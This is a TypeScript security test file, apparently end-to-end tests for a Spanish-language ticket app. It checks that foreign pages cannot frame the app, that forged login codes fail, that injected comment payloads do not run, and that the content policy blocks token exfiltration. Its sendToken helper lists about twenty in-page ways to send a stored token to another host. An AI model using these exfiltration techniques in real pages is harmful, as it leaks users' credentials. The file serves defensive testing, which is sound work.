import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { DEVELOPMENT_LOGIN_CODE_KEY, paths } from '@gemas/domain';
import { encryptLoginCode } from '@gemas/mocks';
import { ELSEWHERE, payloads } from '@gemas/mocks/payloads';
import { expect, heading, test } from './harness.ts';

const FERNANDA = '48213';
/** A key for login codes that differs from the key of the build. */
const OTHER_KEY = 'ab'.repeat(32);

interface Foreign {
  origin: string;
  /** Paths that were requested from the foreign server. */
  asked: string[];
  close(): void;
}

/** Serves a page at every address of another origin. */
async function servePage(html: string): Promise<Foreign> {
  const asked: string[] = [];
  const server = createServer(({ url = '' }, outgoing) => {
    asked.push(url);
    outgoing.writeHead(200, { 'Content-Type': 'text/html' }).end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  const { port } = server.address() as AddressInfo;
  const close = () => {
    server.close();
    server.closeAllConnections();
  };
  return { origin: `http://localhost:${port}`, asked, close };
}

test('a foreign page can neither frame the app nor reach into a window that it opens', async ({
  page,
  site,
  violations,
}) => {
  const address = `${site.address}?code=${await encryptLoginCode(FERNANDA, DEVELOPMENT_LOGIN_CODE_KEY)}`;
  const foreign = await servePage(`<iframe src="${address}"></iframe><h1>Premios gratis</h1>`);
  const refused = page.waitForEvent('console', (message) => /frame/i.test(message.text()));
  await page.goto(foreign.origin);
  expect((await refused).text()).toMatch(/frame-ancestors|X-Frame-Options/i);
  const frames = page.frames().filter((frame) => frame !== page.mainFrame());
  expect(frames.map((frame) => frame.url())).not.toContain(address);

  const [opened] = await Promise.all([
    page.waitForEvent('popup'),
    page.evaluate((to) => {
      Object.assign(window, { opened: window.open(to) });
    }, address),
  ]);
  await expect(heading(opened, /Ávila/)).toBeVisible();
  // Pages with different opener policies cannot access each other's windows.
  const seen = () => page.evaluate(() => (window as unknown as { opened: Window }).opened.closed);
  await expect.poll(seen).toBe(true);
  expect(await opened.evaluate(() => window.opener)).toBeNull();
  foreign.close();
  // The browser reports that it has refused to show the app in a frame, as expected.
  violations.length = 0;
});

test('whoever has the app can make a link, and nobody else', async ({ page, site, server }) => {
  const made = await encryptLoginCode(FERNANDA, DEVELOPMENT_LOGIN_CODE_KEY);
  const links = [
    await encryptLoginCode(FERNANDA, OTHER_KEY),
    made.slice(0, -2),
    made.replace(/.$/, (digit) => (digit === '0' ? '1' : '0')),
    FERNANDA,
  ];
  for (const code of links) {
    await page.goto(`${site.address}?code=${code}`);
    await expect(heading(page, /No pudimos abrir tu sesión/)).toBeVisible();
    await page.goto('about:blank');
  }
  expect(await server.requests('POST', '/auth/login')).toEqual([]);
  // The key is readable in the page, so anybody can use it (docs/security.md).
  const [key = ''] = /\b[\da-f]{64}\b/.exec(await (await fetch(site.address)).text()) ?? [];
  await page.goto(`${site.address}?code=${await encryptLoginCode(FERNANDA, key)}`);
  await expect(heading(page, /Ávila/)).toBeVisible();
});

/**
 * Number of payloads in one comment of the thread. The thread has as many comments as a screen renders at once.
 * payloads.spec.ts shows each payload alone.
 */
const OF_A_COMMENT = 30;

test('a thread of every hostile comment runs nothing and asks no other host', async ({
  page,
  site,
  enter,
  violations,
}) => {
  const [ticket] = site.db.account(FERNANDA).state.tickets;
  if (!ticket) throw new Error('Fernanda has no ticket');
  ticket.title = payloads[0]?.[1] ?? '';
  ticket.comments = [];
  for (let at = 0; at < payloads.length; at += OF_A_COMMENT) {
    const html = payloads.slice(at, at + OF_A_COMMENT).map(([, payload]) => payload);
    ticket.comments.push({
      user: html.join(''),
      content: `<p>Comentario ${at}</p>${html.join('')}`,
      time_ago: 'hoy',
    });
  }
  const asked: string[] = [];
  await page.route(`**://${ELSEWHERE}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ status: 204 });
  });
  await page.addInitScript(() => {
    Object.defineProperty(window, 'pwned', {
      set: () => Object.assign(window, { hasRun: true }),
    });
  });
  await enter(FERNANDA, `#${paths.ticket(ticket.id)}`);
  await expect(page.getByText(/^Comentario /)).toHaveCount(ticket.comments.length);
  const hostile = page.locator(
    'main :is(script, style, iframe, object, embed, form, [onerror], [onload], [srcdoc])',
  );
  await expect(hostile).toHaveCount(0);
  expect(await page.evaluate(() => 'hasRun' in window)).toBe(false);
  expect(asked).toEqual([]);
  // These reports are expected: the sanitiser parses html in a separate document, and the policy reports the event
  // handlers that it blocks there.
  violations.length = 0;
});

/** Sends the token to another host in every way that a page has without navigating away. Runs in the page. */
function sendToken(host: string): void {
  const to = (way: string) => `${host}/${way}?${localStorage.token}`;
  const add = (name: string, attributes: Record<string, string>) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) {
      try {
        element.setAttribute(key, value);
      } catch {
        // Trusted Types block it.
      }
    }
    document.body.append(element);
    return element;
  };
  const ways: (() => unknown)[] = [
    () => fetch(to('fetch'), { mode: 'no-cors' }).catch(() => undefined),
    () => navigator.sendBeacon(to('beacon')),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', to('xhr'));
      request.send();
    },
    () => new EventSource(to('events')),
    () => new WebSocket(to('socket').replace('http', 'ws')),
    () => new Worker(to('worker')),
    () => navigator.serviceWorker?.register(to('service-worker')).catch(() => undefined),
    () => import(/* @vite-ignore */ to('import')).catch(() => undefined),
    () => add('script', { src: to('script') }),
    () => add('img', { src: to('img') }),
    () => add('video', { src: to('video') }),
    () => add('iframe', { src: to('iframe') }),
    () => add('object', { data: to('object') }),
    () => add('embed', { src: to('embed') }),
    () => add('link', { rel: 'stylesheet', href: to('stylesheet') }),
    () => add('link', { rel: 'prefetch', href: to('prefetch') }),
    () => add('link', { rel: 'preload', as: 'fetch', href: to('preload') }),
    () => add('link', { rel: 'manifest', href: to('manifest') }),
    () => add('p', {}).style.setProperty('background', `url(${to('style')})`),
    () => new FontFace('a', `url(${to('font')})`).load().catch(() => undefined),
    () => (add('form', { action: to('form'), method: 'post' }) as HTMLFormElement).submit(),
  ];
  for (const way of ways) {
    try {
      way();
    } catch {
      // The policy blocks it.
    }
  }
}

test('code in the app can send the token to no other host, unless it leaves the page', async ({
  page,
  enter,
  violations,
}) => {
  const foreign = await servePage('<h1>Ajena</h1>');
  await enter(FERNANDA);
  await expect(heading(page, /Ávila/)).toBeVisible();
  await page.evaluate(sendToken, foreign.origin);
  // Waits until more than 15 requests were blocked. Requests that were not blocked have arrived by then.
  await expect.poll(() => violations.length).toBeGreaterThan(15);
  const token = await page.evaluate(() => localStorage.token);
  expect(foreign.asked).toEqual([]);
  // No policy can prevent a page from navigating away (docs/security.md).
  await page.evaluate((to) => window.location.assign(to), `${foreign.origin}/left?${token}`);
  await expect(heading(page, 'Ajena')).toBeVisible();
  expect(foreign.asked).toContain(`/left?${token}`);
  expect(foreign.asked.filter((url) => url !== '/favicon.ico')).toHaveLength(1);
  foreign.close();
  violations.length = 0;
});
